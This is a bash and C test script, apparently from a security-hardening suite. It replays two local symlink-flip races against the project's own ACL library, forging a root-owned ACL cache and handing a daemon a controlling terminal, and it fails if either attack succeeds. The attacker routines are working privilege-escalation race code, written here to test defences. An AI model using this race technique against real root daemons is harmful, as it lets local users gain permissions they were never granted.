#!/usr/bin/env bash
# Replays, for SECONDS each (default 60), two races that an unprivileged
# local user can run against a root daemon that reads ACL files:
#
#   cache     the user flips a symbolic link in a directory of their own
#             between root's ACL file and their own text while root reads it
#             with SEC_F_ACL_CACHE, and moves every root-owned cache written
#             there beside root's ACL file; root then reads its own file.
#             The user wins when root's file grants "any other" more than r.
#   terminal  a daemon without a controlling terminal reads an ACL file
#             whose name the user flips to the slave of a terminal of theirs.
#             The user wins when the daemon gets a controlling terminal.
#
# Run as root from the top of the repository after building (build/);
# prints one line per race and exits 1 if the user won either.
set -euo pipefail
cd "$(dirname "$0")/.."
seconds="${1:-60}"
[ "$(id -u)" -eq 0 ] || { echo "run as root" >&2; exit 2; }
work="$(mktemp -d /tmp/kxrace.XXXXXX)"
trap 'pkill -P $$ 2>/dev/null || true; rm -rf "$work"' EXIT
chmod 0755 "$work"

cat >"$work/race.c" <<'C'
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#include <kx_acl.h>

static int until;
static int running(void) { return time(NULL) < until; }

/* Reads path with flags; the mask that "any other" gets, or -1. */
static long other_mask(const char *path, kx_uint32_t flags) {
    struct sec_buffer_s acl = {0, NULL};
    kx_uint32_t perm = 0;
    if (sec_read_acl_file(path, NULL, NULL, flags, &acl, NULL) != SEC_S_OK)
        return -1;
    kx_int32_t rc = sec__single_acle_perm(&acl, SEC_ACLE_ANYOTHER, NULL, NULL, NULL, &perm);
    sec_release_acl(&acl);
    return rc == SEC_S_OK ? (long)perm : 0;
}

/* Field 7 of /proc/self/stat: the controlling terminal, 0 for none. */
static long tty_nr(void) {
    char buf[1024];
    FILE *f = fopen("/proc/self/stat", "re");
    size_t n = f ? fread(buf, 1, sizeof buf - 1, f) : 0;
    if (f)
        fclose(f);
    buf[n] = '\0';
    char *p = strrchr(buf, ')');
    long nr = 0;
    return p && sscanf(p + 2, "%*c %*d %*d %*d %ld", &nr) == 1 ? nr : -1;
}

/* Makes dir/name and dir/staged symbolic links to a and b, then swaps them
   with every call: one system call a flip. */
static void flip(const char *dir, const char *name, const char *a, const char *b, long i) {
    char staged[4200], path[4200];
    snprintf(staged, sizeof staged, "%s/staged", dir);
    snprintf(path, sizeof path, "%s/%s", dir, name);
    if (i == 0) {
        unlink(staged);
        unlink(path);
        if (symlink(a, path) != 0 || symlink(b, staged) != 0)
            exit(2);
    }
    renameat2(AT_FDCWD, staged, AT_FDCWD, path, RENAME_EXCHANGE);
}

int main(int argc, char **argv) {
    until = (int)time(NULL) + atoi(argv[2]);
    const char *mode = argv[1];
    long reads = 0, wins = 0;
    if (strcmp(mode, "cache-reader") == 0) { /* root: the user's name, with caching */
        while (running())
            other_mask(argv[3], SEC_F_ACL_CACHE), ++reads;
    } else if (strcmp(mode, "cache-attacker") == 0) { /* user: DIR ROOTACL */
        char cacl[4200], mine[4200], target[4200];
        snprintf(cacl, sizeof cacl, "%s/r.acl.cacl", argv[3]);
        snprintf(mine, sizeof mine, "%s/mine", argv[3]);
        snprintf(target, sizeof target, "%s.cacl", argv[4]);
        for (long i = 0; running(); ++i) {
            struct stat st;
            flip(argv[3], "r.acl", argv[4], mine, i);
            /* A cache of their own text would block the writer: removed. */
            if (lstat(cacl, &st) != 0)
                continue;
            if (st.st_uid != 0 || st.st_size == 0)
                unlink(cacl);
            else if (rename(cacl, target) == 0)
                ++reads;
        }
        printf("cache: the user moved %ld root-owned caches beside root's file\n", reads);
    } else if (strcmp(mode, "cache-victim") == 0) { /* root: its own file */
        char cacl[4200];
        snprintf(cacl, sizeof cacl, "%s.cacl", argv[3]);
        while (running()) {
            long mask = other_mask(argv[3], 0);
            ++reads;
            if (mask != 0x1 && mask != -1)
                ++wins;
            unlink(cacl);
        }
        printf("cache: %ld reads of root's file, %ld granted more than r\n", reads, wins);
    } else if (strcmp(mode, "tty-reader") == 0) { /* root, setsid: the user's name */
        while (running()) {
            other_mask(argv[3], SEC_F_ACL_TEXT);
            ++reads;
            if (tty_nr() != 0)
                ++wins;
        }
        printf("terminal: %ld reads, %ld with a controlling terminal\n", reads, wins);
    } else if (strcmp(mode, "tty-attacker") == 0) { /* user: DIR */
        int master = posix_openpt(O_RDWR | O_NOCTTY);
        if (master < 0 || grantpt(master) != 0 || unlockpt(master) != 0)
            return 2;
        char text[4200];
        snprintf(text, sizeof text, "%s/text", argv[3]);
        for (long i = 0; running(); ++i)
            flip(argv[3], "r.acl", text, ptsname(master), i);
    }
    return wins != 0;
}
C
cc -O2 -Wall -Werror -Iinclude -o "$work/race" "$work/race.c" -Lbuild/acl -Lbuild/cu -Lbuild/tr \
  -Wl,-rpath,"$PWD/build/acl:$PWD/build/cu:$PWD/build/tr" -lkx_acl -lkx_cu -lkx_tr
user=nobody
status=0

# The forged cache: root's ACL file in the shared sticky directory, the
# user's directory beside it.
root_acl="$work/r.acl"
printf 'o r\n' >"$root_acl"
touch -d '-10 seconds' "$root_acl"
mkdir "$work/s" && chown "$user" "$work/s"
chmod 1777 "$work"
runuser -u "$user" -- sh -c "printf 'o rwcxCqledvsao\n' > '$work/s/mine' && touch -d '-10 seconds' '$work/s/mine'"
runuser -u "$user" -- "$work/race" cache-attacker "$seconds" "$work/s" "$root_acl" &
"$work/race" cache-reader "$seconds" "$work/s/r.acl" &
"$work/race" cache-victim "$seconds" "$root_acl" || status=1
wait

# The terminal: a daemon in a session of its own, the user's directory.
mkdir "$work/t" && chown "$user" "$work/t"
runuser -u "$user" -- sh -c "printf 'o r\n' > '$work/t/text'"
runuser -u "$user" -- "$work/race" tty-attacker "$seconds" "$work/t" &
setsid "$work/race" tty-reader "$seconds" "$work/t/r.acl" </dev/null || status=1
wait
exit "$status"
